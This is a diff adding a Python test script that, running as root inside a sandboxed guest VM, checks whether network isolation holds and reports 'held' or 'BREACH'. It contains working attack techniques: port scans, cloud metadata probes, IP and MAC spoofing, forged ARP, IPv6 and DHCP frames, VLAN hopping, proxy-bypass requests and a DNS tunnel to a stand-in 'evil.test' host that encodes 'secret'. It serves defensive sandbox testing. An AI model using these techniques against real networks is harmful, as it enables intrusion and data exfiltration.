@@ -1,0 +1,209 @@
+# What root in a guest tries: $1 is the policy in force, then its own address, MAC and port at the host, the bridge's address, the
+# neighbour's address and MAC. Says of each whether it held. Bounded: the longest takes some seconds.
+import errno, os, select, socket, struct, subprocess, sys, time
+
+policy, ip, mac, port, gateway, neighbour, neighbour_mac = sys.argv[1:8]
+OUTSIDE, LAN, METADATA = "203.0.113.10", "10.99.0.5", "169.254.169.254"
+MARK = b"fireclaw-attack"
+PATIENCE = 3
+DEVICE = next(name for name in os.listdir("/sys/class/net") if name != "lo")
+
+
+def said(name, got_through, detail=""):
+    print("BREACH" if got_through else "held", name, detail, flush=True)
+
+
+def exchange(address, port, send=b"GET / HTTP/1.0\r\n\r\n", source=None):
+    """What comes back over TCP; empty when nothing does."""
+    family = socket.AF_INET6 if ":" in address else socket.AF_INET
+    with socket.socket(family, socket.SOCK_STREAM) as s:
+        s.settimeout(PATIENCE)
+        try:
+            if source:
+                s.bind((source, 0))
+            s.connect((address, port))
+            parts = send if isinstance(send, list) else [send]
+            for part in parts:
+                s.sendall(part)
+            got = b""
+            while more := s.recv(4096):
+                got += more
+            return got or b"(connected)"
+        except OSError:
+            return b""
+
+
+def datagram(address, port, send=b"marked\n"):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.settimeout(PATIENCE)
+        try:
+            s.sendto(send, (address, port))
+            return s.recv(2048)
+        except OSError:
+            return b""
+
+
+def open_ports(address, ports):
+    """Those that take a connection, all asked at once."""
+    waiting, found = {}, set()
+    for number in ports:
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        s.setblocking(False)
+        s.connect_ex((address, number))
+        waiting[s] = number
+    end = time.monotonic() + PATIENCE
+    while waiting and (left := end - time.monotonic()) > 0:
+        _, ready, _ = select.select([], list(waiting), [], left)
+        for s in ready:
+            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
+                found.add(waiting[s])
+            del waiting[s]
+            s.close()
+    for s in waiting:
+        s.close()
+    return found
+
+
+def pinged(address):
+    return subprocess.run(["ping", "-c", "1", "-W", "2", address], capture_output=True).returncode == 0
+
+
+def hexed(address):
+    return bytes.fromhex(address.replace(":", ""))
+
+
+def checksum(data):
+    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def ipv4(source, target, payload, protocol=17):
+    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0,
+                       socket.inet_aton(source), socket.inet_aton(target))
+    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload
+
+
+def udp(sport, dport, payload):
+    return struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
+
+
+def arp(operation, sender_mac, sender_ip, target_mac, target_ip):
+    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + hexed(sender_mac) + socket.inet_aton(sender_ip) \
+        + hexed(target_mac) + socket.inet_aton(target_ip) + MARK
+
+
+def frames():
+    """Each with the name of what it is. The neighbour looks for the mark."""
+    everybody, nobody = "ff:ff:ff:ff:ff:ff", "00:00:00:00:00:00"
+    ethernet = lambda to, source, kind, payload: hexed(to) + hexed(source) + struct.pack("!H", kind) + payload
+    plain = lambda source: ipv4(source, neighbour, udp(9, 9, MARK))
+    yield "to the neighbour's MAC", ethernet(neighbour_mac, mac, 0x0800, plain(ip))
+    yield "with the neighbour's MAC as its own", ethernet(everybody, neighbour_mac, 0x0800, plain(ip))
+    yield "with a made-up MAC", ethernet(neighbour_mac, "06:fc:de:ad:be:ef", 0x0800, plain(ip))
+    yield "with the bridge's address as its own", ethernet(neighbour_mac, mac, 0x0800, plain(gateway))
+    yield "with the neighbour's address as its own", ethernet(neighbour_mac, mac, 0x0800, plain(neighbour))
+    yield "with a stranger's address as its own", ethernet(neighbour_mac, mac, 0x0800, plain("198.51.100.7"))
+    yield "ARP: the bridge is me", ethernet(everybody, mac, 0x0806, arp(2, mac, gateway, nobody, gateway))
+    yield "ARP: the neighbour is me", ethernet(everybody, mac, 0x0806, arp(2, mac, neighbour, nobody, neighbour))
+    yield "ARP to the neighbour alone", ethernet(neighbour_mac, mac, 0x0806, arp(2, mac, gateway, neighbour_mac, neighbour))
+    yield "ARP from another MAC inside", ethernet(everybody, mac, 0x0806, arp(1, neighbour_mac, ip, nobody, gateway))
+    yield "RARP", ethernet(everybody, mac, 0x8035, arp(3, mac, ip, mac, ip))
+    yield "a VLAN tag", ethernet(neighbour_mac, mac, 0x8100, struct.pack("!HH", 1, 0x0800) + plain(ip))
+    yield "a VLAN tag of zero", ethernet(neighbour_mac, mac, 0x8100, struct.pack("!HH", 0, 0x0800) + plain(ip))
+    yield "two VLAN tags", ethernet(neighbour_mac, mac, 0x88A8, struct.pack("!HHHH", 1, 0x8100, 1, 0x0800) + plain(ip))
+    head = lambda kind, payload: struct.pack("!IHBB16s16s", 6 << 28, len(payload), 58, 255,
+                                             socket.inet_pton(socket.AF_INET6, "fe80::1"),
+                                             socket.inet_pton(socket.AF_INET6, "ff02::1")) + payload
+    advertise = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + MARK
+    solicit = struct.pack("!BBHI16s", 135, 0, 0, 0, socket.inet_pton(socket.AF_INET6, "fe80::2")) + MARK
+    neighbourly = struct.pack("!BBHI16s", 136, 0, 0, 0x60000000, socket.inet_pton(socket.AF_INET6, "fe80::1")) + MARK
+    for name, payload in [("router advertisement", advertise), ("neighbour solicitation", solicit),
+                          ("neighbour advertisement", neighbourly)]:
+        yield "IPv6: a " + name, ethernet("33:33:00:00:00:01", mac, 0x86DD, head(58, payload))
+    yield "DHCP: who gives me an address", ethernet(everybody, mac, 0x0800,
+                                                    ipv4("0.0.0.0", "255.255.255.255", udp(68, 67, MARK * 20)))
+    yield "DHCP: I give you an address", ethernet(everybody, mac, 0x0800,
+                                                  ipv4(ip, "255.255.255.255", udp(67, 68, MARK * 20)))
+    yield "multicast DNS", ethernet("01:00:5e:00:00:fb", mac, 0x0800, ipv4(ip, "224.0.0.251", udp(5353, 5353, MARK)))
+    yield "a broadcast to the subnet", ethernet(everybody, mac, 0x0800,
+                                                ipv4(ip, gateway.rsplit(".", 1)[0] + ".255", udp(9, 9, MARK)))
+    yield "spanning tree", hexed("0180c2000000") + hexed(mac) + struct.pack("!H", 3 + len(MARK)) + b"\x42\x42\x03" + MARK
+    yield "LLDP", ethernet("01:80:c2:00:00:0e", mac, 0x88CC, MARK * 3)
+    yield "an unknown kind of frame", ethernet(neighbour_mac, mac, 0x88B5, MARK * 3)
+    yield "a kind that is too short to be one", ethernet(neighbour_mac, mac, 0x0800, MARK)
+
+
+def question(name):
+    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
+    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)
+
+
+def has_answer(reply):
+    return len(reply) >= 12 and struct.unpack("!HHHHHH", reply[:12])[3] > 0
+
+
+def public():
+    if b"outside" not in exchange(OUTSIDE, 80):
+        sys.exit("the way to the public internet does not work")
+    for number in (22, 18789):
+        said("the neighbour's port %d" % number, exchange(neighbour, number))
+    said("the neighbour by ping", pinged(neighbour))
+    said("the neighbour by UDP", datagram(neighbour, 53))
+    host = open_ports(gateway, [*range(1, 900), 2375, 2376, 5355, 6443, 8080, 9090, *range(18780, 18910)]) - {int(port)}
+    said("a thousand ports of the host", host, host or "")
+    said("the host by its outer address", open_ports("203.0.113.1", [22, 80, 111]))
+    said("the host by its address in the lab", open_ports("10.0.2.15", [22, 80, 111]))
+    said("the metadata service", exchange(METADATA, 80))
+    said("the LAN", exchange(LAN, 80))
+    said("another LAN", exchange("192.168.77.5", 80))
+    said("the LAN by UDP", datagram(LAN, 8080))
+    said("the LAN by ping", pinged(LAN))
+    subprocess.run(["ip", "-6", "route", "add", "default", "dev", DEVICE], capture_output=True)
+    said("the metadata service by IPv6", exchange("fd00:ec2::254", 80))
+    subprocess.run(["ip", "address", "add", neighbour + "/32", "dev", DEVICE])
+    said("a connection as the neighbour", exchange(OUTSIDE, 80, source=neighbour))
+    subprocess.run(["ip", "address", "del", neighbour + "/32", "dev", DEVICE])
+    subprocess.run(["ip", "route", "add", neighbour + "/32", "via", gateway])
+    said("the neighbour by way of the host", exchange(neighbour, 18789))
+    subprocess.run(["ip", "route", "del", neighbour + "/32"])
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
+        raw.bind((DEVICE, 0))
+        for name, frame in frames():
+            for _ in range(3):
+                try:
+                    raw.send(frame)
+                except OSError as error:
+                    if error.errno != errno.EMSGSIZE:
+                        raise
+            print("sent", name, flush=True)
+    before = time.monotonic()
+    for _ in range(4):
+        open_ports(OUTSIDE, [80] * 250)
+    print("sent 1000 connections in %.1f s" % (time.monotonic() - before), flush=True)
+
+
+def allow():
+    for name, send in [("by its address", b"GET / HTTP/1.1\r\nHost: 203.0.113.10\r\n\r\n"),
+                       ("with an allowed name that is not its own", b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
+                       ("without a name", b"GET / HTTP/1.0\r\n\r\n"),
+                       ("with two names", b"GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: 203.0.113.10\r\n\r\n"),
+                       ("with another name in its target", b"GET http://203.0.113.10/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
+                       ("by a tunnel", b"CONNECT 203.0.113.10:80 HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET / HTTP/1.0\r\n\r\n"),
+                       ("with its name in pieces", [b"GET / HTTP/1.1\r\nHo", b"st: 203.0.113", b".10\r\n\r\n"])]:
+        said("a forbidden site " + name, b"outside" in exchange(OUTSIDE, 80, send))
+    said("a forbidden site without TLS at its port", b"outside" in exchange(OUTSIDE, 443))
+    said("a port of DNS over TLS", exchange(OUTSIDE, 853))
+    said("any other port", exchange(OUTSIDE, 8080))
+    said("QUIC", datagram(OUTSIDE, 443) == b"marked\n")
+    said("any other UDP", datagram(OUTSIDE, 8080))
+    said("a foreign name server", datagram(OUTSIDE, 53) == b"marked\n")
+    said("a tunnel by names", has_answer(datagram(gateway, 53, question("c2VjcmV0.evil.test"))))
+    said("a tunnel by names at a foreign server", has_answer(datagram(OUTSIDE, 53, question("c2VjcmV0.evil.test"))))
+    said("ping", pinged(OUTSIDE))
+    said("the metadata service", exchange(METADATA, 80, b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n").find(b"outside") >= 0)
+    said("the LAN", b"outside" in exchange(LAN, 80, b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"))
+
+
+{"public": public, "allow": allow}[policy]()
